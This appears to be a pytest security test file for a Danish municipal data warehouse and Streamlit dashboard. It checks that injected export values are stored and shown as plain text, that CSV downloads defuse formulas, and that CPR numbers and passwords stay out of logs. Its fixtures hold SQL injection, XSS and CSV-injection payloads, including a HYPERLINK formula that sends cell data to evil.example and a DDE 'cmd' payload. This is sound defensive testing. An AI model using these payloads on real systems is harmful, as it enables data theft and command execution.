"""Crafted export content: SQL, HTML, Markdown, formulas and CPR numbers go in as plain text only.

An export whose text fields hold attack strings is loaded through etl.load.load_exports; the
warehouse keeps them verbatim (no SQL runs), pages show them as plain text, CSV downloads defuse
formulas, and no CPR number, password or pseudonym key reaches a log, a message, the audit trail
or the warehouse.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import logging
import re
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as hs
from streamlit.testing.v1 import AppTest

from app import components
from app.accounts import AccountStore, accounts_path, make_account
from app.auth import account_from_claims
from app.queries import data_quality
from app.scope import Scope
from etl.load import load_exports
from etl.report import format_report
from privacy import audit
from privacy.cpr import looks_like_cpr
from tests.support import security_fixtures as sf
from tests.support.exports import case, progress, stored_text, who5, worker, write_export

SQL_CASE = "C1'); drop table raw.cases; --"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
MARKDOWN_BOLD = "**fed**"
MARKDOWN_LINK = "[klik](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")
CRAFTED_CASE_IDS = (SQL_CASE, SCRIPT, IMG, MARKDOWN_BOLD, MARKDOWN_LINK, *FORMULAS)
CRAFTED_NAMES = (SCRIPT, IMG, MARKDOWN_LINK, FORMULA, "Robert'); drop table raw.workers; --")
CPR_IN_ID = "010190-1234"
CPR_IN_NAME = "Jens Hansen 020285-4321"
CPRS = ("010190-1234", "0101901234", "020285-4321", "0202854321")
OTHER_MUNICIPALITY_TEXT = "Jens Hansen"  # a name typed into a coded cell of a 751 case
PASSWORD = "korrekt-hest-batteri"
WRONG_PASSWORD = "mit-hemmelige-kodeord-77"
PSEUDONYM_KEY = "test-key-not-secret"  # set by tests/conftest.py
MARKDOWN_ELEMENTS = ("markdown", "caption", "title", "header", "subheader", "info", "warning",
                     "error", "success", "exception", "toast")  # fmt: skip


@pytest.fixture(scope="module")
def crafted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A warehouse loaded from the crafted export, and everything the load printed or logged."""
    root = tmp_path_factory.mktemp("crafted")
    workers = [worker(f"W{i}", navn=name) for i, name in enumerate(CRAFTED_NAMES)]
    workers.append(worker("W-cpr", navn=CPR_IN_NAME))
    cases = [
        case(case_id, medarbejder_id=f"W{i % len(CRAFTED_NAMES)}", startdato="2023-02-10")
        for i, case_id in enumerate(CRAFTED_CASE_IDS)
    ]
    cases.append(case("C-cpr", borger_id=CPR_IN_ID, medarbejder_id="W-cpr"))
    cases.append(case("C-cpr2", borger_id="0202854321", koen=CPR_IN_NAME))  # CPR in a coded cell
    cases += [case(f"C-plain-{i}", startdato="2023-03-01") for i in range(12)]
    cases.append(case("C751-bad", kommunekode="751", koen=OTHER_MUNICIPALITY_TEXT))
    ids = [c["forloeb_id"] for c in cases]
    export = write_export(
        root / "export",
        "2024-06-30",
        cases=cases,
        workers=workers,
        assessments=[who5(i, when="2023-03-02") for i in ids],
        progression=[progress(i, when=w) for i in ids for w in ("2023-04-01", "2023-09-01")]
        + [progress(SCRIPT, when="2024-01-01", score="<b>9</b>")],
    )
    db = root / "wh" / "warehouse.duckdb"
    logger, handler, stream = logging.getLogger(), None, io.StringIO()
    handler = logging.StreamHandler(stream)
    logger.addHandler(handler)
    try:
        result = load_exports([export], db)
    finally:
        logger.removeHandler(handler)
    return db, stream.getvalue() + "\n" + format_report(result)


# --- the warehouse stores attack strings as plain text -----------------------------------------


def test_sql_html_and_markdown_are_stored_verbatim(crafted):
    db, _ = crafted
    con = duckdb.connect(str(db), read_only=True)
    try:
        case_ids = {r[0] for r in con.execute("select case_id from raw.cases").fetchall()}
        names = {r[0] for r in con.execute("select name from raw.workers").fetchall()}
        tables = {r[0] for r in con.execute(
            "select table_name from information_schema.tables where table_schema = 'raw'"
        ).fetchall()}  # fmt: skip
    finally:
        con.close()
    assert set(CRAFTED_CASE_IDS) <= case_ids
    assert set(CRAFTED_NAMES) <= names
    assert {"cases", "workers", "assessments", "progression"} <= tables


def test_a_crafted_score_is_rejected_with_a_reason(crafted):
    db, _ = crafted
    con = duckdb.connect(str(db), read_only=True)
    try:
        rows = con.execute(
            "select column_name, message from etl.rejected_rows "
            "where table_name = 'progression' and reason_code = 'invalid_value'"
        ).fetchall()
    finally:
        con.close()
    assert [r[0] for r in rows] == ["score"]
    assert rows[0][1]


def test_no_cpr_number_or_key_is_stored_anywhere_in_the_warehouse(crafted):
    db, _ = crafted
    found = [(where, value) for where, value in stored_text(db) if looks_like_cpr(value)]
    assert found == []
    assert [where for where, value in stored_text(db) if PSEUDONYM_KEY in value] == []


def test_the_load_report_and_logs_hold_no_cpr_number(crafted):
    _, output = crafted
    assert output.strip(), "the load printed nothing to check"
    assert [cpr for cpr in CPRS if cpr in output] == []
    assert not looks_like_cpr(output)
    assert PSEUDONYM_KEY not in output


def test_the_load_cli_prints_no_cpr_number(tmp_path, capsys):
    from cli.main import main as lat

    export = write_export(tmp_path / "e", "2024-06-30",
                          cases=[case("C1", borger_id=CPR_IN_ID, koen=CPR_IN_NAME)],
                          workers=[worker("W1", navn=CPR_IN_NAME)])  # fmt: skip
    lat(["load", str(export), "--db", str(tmp_path / "wh" / "warehouse.duckdb")])
    out = capsys.readouterr()
    assert not looks_like_cpr(out.out + out.err), out.out + out.err


# --- pages render attack strings as plain text ---------------------------------------------------


# The only HTML the app sends: fixed style rules (one hides Streamlit's export toolbars, one lets
# headline figures wrap). They hold no data, so nothing passes through them (checked below: a
# literal <style> and nothing else). Besides them, the session-cookie script, Streamlit's texts
# in the reader's words and a card's sparkline image (numbers only), each checked below.
STYLE_ONLY = {"EXPORT_LOCK_CSS", "METRIC_LABEL_CSS", "CALM_RERUNS_CSS"}
STYLE_LINES = {("app/components.py", f"st.html({name})") for name in STYLE_ONLY} | {
    # the session-cookie script (app/session_cookie.py): a checked ticket and base path only
    ("app/auth.py", "st.html(script, unsafe_allow_javascript=True)"),
    # Streamlit's own English in the reader's words (app/components.py): catalogue texts only
    ("app/components.py",
     "st.sidebar.html(streamlit_texts_script(i18n.lang()), unsafe_allow_javascript=True)"),
    # a card's sparkline, an SVG image of numbers only (checked below)
    ("app/components.py", "st.html(sparkline_html(points))"),
}  # fmt: skip
SPARKLINE_IMAGE = re.compile(
    r'<img class="lat-sparkline" alt="" aria-hidden="true" '
    r'src="data:image/svg\+xml;base64,([A-Za-z0-9+/]+=*)" style="[a-z0-9:;%-]+">'
)
SPARKLINE_SVG = re.compile(
    r'<svg xmlns="http://www.w3\.org/2000/svg" viewBox="0 0 \d+ \d+" preserveAspectRatio="none" '
    r'width="100%" height="100%"><polyline points="(-?\d+\.\d\d,-?\d+\.\d\d ?)+" '
    r'fill="none" stroke="#[0-9A-F]{6}" stroke-width="2" stroke-linejoin="round" '
    r'stroke-linecap="round" vector-effect="non-scaling-stroke"/></svg>'
)


@settings(max_examples=60, deadline=None)
@given(hs.lists(hs.floats(-1e9, 1e9, allow_nan=False), min_size=1, max_size=40))
def test_a_sparkline_image_holds_numbers_only(points: list[float]):
    """The one HTML of the app made from data: a card's monthly figures, each written as a
    number with two decimals into an SVG with fixed markup, sent as a base64 image. Nothing of
    a value but digits reaches the page (one month as well as forty, equal or extreme values)."""
    shown = components.sparkline_html(points)
    image = SPARKLINE_IMAGE.fullmatch(shown)
    assert image, shown
    svg = base64.b64decode(image[1]).decode()
    assert SPARKLINE_SVG.fullmatch(svg), svg
    assert svg.count(",") == len(points)


@pytest.mark.parametrize(
    "ticket", ["</script><script>alert(1)</script>", "a" * 19, 'abc"def' * 5, "x" * 101]
)
def test_the_session_cookie_script_takes_only_a_ticket(ticket: str):
    from app import session_cookie

    with pytest.raises(ValueError):
        session_cookie.browser_script("", ticket)
    with pytest.raises(ValueError):
        session_cookie.browser_script("</script>", None)
    good = session_cookie.browser_script("lat", "A" * 43)
    assert good == (
        '<script>fetch("/lat/_lat/session", {method: \'POST\', body: "' + "A" * 43 + '", '
        "credentials: 'same-origin'});</script>"
    )


@pytest.mark.parametrize("language", ["da", "en"])
def test_the_streamlit_texts_script_holds_catalogue_texts_only(language):
    """One script, its texts as JSON from the catalogue: nothing in it can close the script."""
    script = components.streamlit_texts_script(language)
    body = script.removeprefix("<script>").removesuffix("</script>")
    assert script.startswith("<script>") and "<" not in body and ">" not in body.replace("=>", "")
    payload = json.loads(re.search(r"window.__latTexts = (\{.*?\});", body).group(1))
    wanted = {key: components.t(key, language) for key in components.STREAMLIT_TEXTS.values()}
    assert set(payload["words"].values()) == set(wanted.values()) and payload["lang"] == language


def test_no_page_or_app_module_passes_html_through():
    """Every way to send raw HTML to the browser is absent from the app and the pages."""
    risky = re.compile(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.v1|\.html\(")
    hits = [
        f"{path.relative_to(sf.ROOT)}:{n}: {line.strip()}"
        for folder in ("app", "pages")
        for path in sorted((sf.ROOT / folder).rglob("*.py"))
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if risky.search(line) and (str(path.relative_to(sf.ROOT)), line.strip()) not in STYLE_LINES
    ]
    assert hits == []
    for name in STYLE_ONLY:
        assert re.fullmatch(r"<style>[^<>]*</style>", getattr(components, name)), name


def _markdown_texts(at: AppTest) -> list[tuple[str, str, bool]]:
    """(kind, text, allows_html) of every element that renders Markdown."""
    out = []
    for kind in MARKDOWN_ELEMENTS:
        for element in at.get(kind):
            proto = element.proto
            body = getattr(proto, "body", None) or getattr(proto, "message", None) or ""
            out.append((kind, str(body), bool(getattr(proto, "allow_html", False))))
    for metric in at.metric:
        out.append(("metric", f"{metric.label} {metric.value} {metric.proto.help}", False))
    return out


@pytest.mark.parametrize("page", sf.page_files(), ids=lambda p: p.stem)
def test_pages_show_crafted_values_as_plain_text_only(crafted, monkeypatch, page):
    db, _ = crafted
    monkeypatch.setenv("LAT_DB", str(db))
    at = sf.run_page(page, "national", query={"from": "2023-01", "to": "2024-06"})
    assert not at.exception, at.exception
    for kind, text, allows_html in _markdown_texts(at):
        assert not allows_html, f"{kind} renders HTML: {text[:80]}"
        raw = [value for value in (*CRAFTED_CASE_IDS, *CRAFTED_NAMES) if value in text]
        assert raw == [], f"{kind} renders a data value as Markdown: {text[:120]}"
    for name, body in sf.downloads(at).items():
        assert _formula_cells(body) == [], name


def test_the_crafted_values_reach_the_screen_so_the_check_above_can_fail(crafted, monkeypatch):
    monkeypatch.setenv("LAT_DB", str(crafted[0]))
    at = sf.run_page(sf.PAGES_DIR / "attention.py", "national", query={"from": "2023-01"})
    assert SCRIPT in sf.rendered_text(at)


def test_rejected_rows_of_another_municipality_are_not_listed_to_a_coordinator(
    crafted, monkeypatch
):
    """A rejected cell's text (here a name in a coded column) is personal data of its municipality."""
    monkeypatch.setenv("LAT_DB", str(crafted[0]))
    national = data_quality.rejected_rows(Scope.everything())
    assert OTHER_MUNICIPALITY_TEXT in national.write_csv()
    for scope in (Scope(role="coordinator", municipalities=frozenset({"101"})),
                  Scope(role="worker", worker_id="W1")):  # fmt: skip
        shown = data_quality.rejected_rows(scope).write_csv()
        assert OTHER_MUNICIPALITY_TEXT not in shown, scope.role


# --- CSV downloads defuse formulas (CSV injection) ----------------------------------------------


def _formula_cells(body: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting with = + @, or - then not a number."""
    bad = []
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                bad.append(cell)
            elif cell[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell):
                bad.append(cell)
    return bad


def test_csv_download_neutralises_formula_cells():
    frame = pl.DataFrame({"name": [*FORMULAS, "plain", None], "n": [1, -2, 3, 4, 5, 6]})
    body = components.csv_bytes(frame)
    assert _formula_cells(body) == []
    text = body.decode("utf-8-sig")
    assert "plain" in text and "-2" in text  # ordinary text and negative numbers are untouched


# --- secrets never reach the audit trail or the screen ------------------------------------------


@pytest.fixture
def store(fast_hashing: None) -> AccountStore:
    s = AccountStore(accounts_path())
    s.add(make_account("anna", "coordinator", ["101"]), PASSWORD)
    return s


def _sign_in(name: str, password: str) -> AppTest:
    at = AppTest.from_file(
        str(sf.ROOT / "tests" / "support" / "auth_app.py"), default_timeout=30
    ).run()
    at.text_input(key="auth_name").input(name)
    at.text_input(key="auth_password").input(password)
    return at.button(key="auth_submit").click().run()


def test_failed_sign_ins_leave_no_password_or_cpr_in_audit_logs_or_screen(store, caplog):
    caplog.set_level(logging.DEBUG)
    attempts = [("anna", WRONG_PASSWORD), (CPR_IN_ID, WRONG_PASSWORD), (WRONG_PASSWORD, "x" * 12)]
    screens = []
    for name, password in attempts:
        at = _sign_in(name, password)
        assert not at.exception
        screens.append(sf.rendered_text(at).replace(f'value: "{name}"', ""))
    trail = audit.read_events().cast(pl.String, strict=False).write_csv()
    raw = audit.audit_path().read_bytes().decode("utf-8", "replace")
    for where, text in (("audit", trail), ("audit file", raw), ("log", caplog.text),
                        *(("screen", s) for s in screens)):  # fmt: skip
        assert WRONG_PASSWORD not in text, where
        assert not looks_like_cpr(text), where
    assert "sign_in_failed" in trail


def test_an_identity_token_name_is_shown_as_plain_text_not_markdown():
    """The signed-in name stands in a Markdown caption: an OIDC name cannot add links or images."""
    from tests.support.app_fixtures import signed_in_app

    for name in ("![x](http://evil.example/p.png)", MARKDOWN_LINK, SCRIPT, "**boss**"):
        account = account_from_claims({"email": name, "lat_role": "viewer"})
        at = signed_in_app("viewer", name=account.name).run()
        assert not at.exception
        caption = next(c.value for c in at.sidebar.caption if "(" in c.value or "**" in c.value)
        shown = caption.split("**")[1] if caption.count("**") >= 2 else caption
        # every Markdown character of the name is escaped: the caption renders it literally
        assert not re.search(r"(?<!\\)[\[\]()*<>!]", shown), caption
